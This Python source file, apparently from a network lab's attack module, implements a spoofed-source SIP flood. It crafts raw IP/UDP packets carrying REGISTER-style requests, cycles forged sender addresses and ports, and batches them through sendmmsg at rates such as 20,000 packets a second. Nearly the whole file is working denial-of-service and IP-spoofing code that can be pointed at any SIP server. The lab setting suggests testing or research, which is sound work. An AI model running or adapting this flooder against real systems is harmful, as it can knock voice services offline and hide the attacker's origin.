"""Sends SIP requests with any sender's address on them: `python -m lab.attack.spoof '{…}'`, in the
world's namespace. A program of its own: at 20,000 packets a second nobody else shares its lock.
"""

import ctypes
import ipaddress
import itertools
import json
import os
import socket
import struct
import sys
import time
from collections.abc import Sequence
from dataclasses import asdict, dataclass
from pathlib import Path

TICK_S = 0.005
#: A busy machine may make up for so much of a delay.
CATCH_UP_S = 2.0
_MARK = b"00000000"


@dataclass(frozen=True)
class Flood:
    """What to send: `number` sources from `first` on, one packet of each in turn."""

    to: str
    port: int
    first: str
    number: int
    count: int
    per_second: int
    method: str = "REGISTER"
    user: str = "101"

    def command(self) -> list[str]:
        """Return the program that sends it."""
        return [sys.executable, str(Path(__file__)), json.dumps(asdict(self))]


def send(flood: Flood) -> tuple[int, float]:
    """Send it at its pace; return how many went out, in how many seconds."""
    volley = Volley(flood, max(1, int(flood.per_second * TICK_S)))
    sent, due = 0, (began := time.monotonic())
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
        while sent < flood.count:
            made = volley.send(sock, flood.count - sent)
            sent += made
            due = max(due + made / flood.per_second, time.monotonic() - CATCH_UP_S)
            time.sleep(max(0.0, due - time.monotonic()))
    return sent, time.monotonic() - began


class _Head(ctypes.Structure):
    """struct msghdr."""

    _fields_ = (
        ("name", ctypes.c_void_p),
        ("name_size", ctypes.c_uint32),
        ("pieces", ctypes.c_void_p),
        ("piece_count", ctypes.c_size_t),
        ("control", ctypes.c_void_p),
        ("control_size", ctypes.c_size_t),
        ("flags", ctypes.c_int),
    )


class _Message(ctypes.Structure):
    """struct mmsghdr (sendmmsg(2))."""

    _fields_ = (("head", _Head), ("sent", ctypes.c_uint))


class _Piece(ctypes.Structure):
    """struct iovec."""

    _fields_ = (("base", ctypes.c_void_p), ("size", ctypes.c_size_t))


class Volley:
    """Some packets that the kernel takes with one call; each is another one every time."""

    def __init__(self, flood: Flood, size: int) -> None:
        """Prepare room for `size` of them."""
        packet = _packet(flood)
        self._length = len(packet)
        self._marks = _places(packet)
        self._room = bytearray(packet * size)
        sources = [int(ipaddress.ip_address(flood.first)) + n for n in range(flood.number)]
        self._sources = itertools.cycle([source.to_bytes(4, "big") for source in sources])
        self._number = itertools.count()
        to = struct.pack("=HH4s8x", socket.AF_INET, 0, socket.inet_aton(flood.to))
        self._to = ctypes.create_string_buffer(to, len(to))
        base = ctypes.addressof((ctypes.c_char * len(self._room)).from_buffer(self._room))
        places = [base + n * self._length for n in range(size)]
        self._pieces = (_Piece * size)(*((place, self._length) for place in places))
        self._messages = (_Message * size)()
        for message, piece in zip(self._messages, self._pieces, strict=True):
            head = message.head
            head.name, head.name_size = ctypes.addressof(self._to), len(to)
            head.pieces, head.piece_count = ctypes.addressof(piece), 1
        self._sendmmsg = ctypes.CDLL(None, use_errno=True).sendmmsg

    def send(self, sock: socket.socket, most: int) -> int:
        """Send at most `most` new packets; return how many went out. Raise OSError."""
        count = min(most, len(self._messages))
        for start in range(0, count * self._length, self._length):
            self._renew(start)
        sent = int(self._sendmmsg(sock.fileno(), self._messages, count, 0))
        if sent < 0:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        return sent

    def _renew(self, start: int) -> None:
        room, number = self._room, next(self._number)
        room[start + 12 : start + 16] = next(self._sources)
        room[start + 20 : start + 22] = (1024 + number % 60_000).to_bytes(2, "big")
        text = b"%08d" % number
        for place in self._marks:
            room[start + place : start + place + 8] = text


def _packet(flood: Flood) -> bytes:
    body = _request(flood)
    udp = struct.pack("!HHHH", 5060, flood.port, 8 + len(body), 0)
    # The kernel fills in length, identification and checksum (raw(7)).
    to = socket.inet_aton(flood.to)
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_UDP, 0, bytes(4), to)
    return head + udp + body


def _places(packet: bytes) -> Sequence[int]:
    found, start = [], packet.find(_MARK)
    while start >= 0:
        found.append(start)
        start = packet.find(_MARK, start + 8)
    return found


def _request(flood: Flood) -> bytes:
    mark, to = _MARK.decode(), flood.to
    return (
        f"{flood.method} sip:{to} SIP/2.0\r\n"
        f"Via: SIP/2.0/UDP 10.0.0.1:5060;branch=z9hG4bK{mark};rport\r\nMax-Forwards: 70\r\n"
        f"From: <sip:{flood.user}@{to}>;tag=t{mark}\r\nTo: <sip:{flood.user}@{to}>\r\n"
        f"Call-ID: {mark}\r\nCSeq: 1 {flood.method}\r\nContact: <sip:x@10.0.0.1:5060>\r\n"
        "Content-Length: 0\r\n\r\n"
    ).encode()


if __name__ == "__main__":
    print(*send(Flood(**json.loads(sys.argv[1]))))
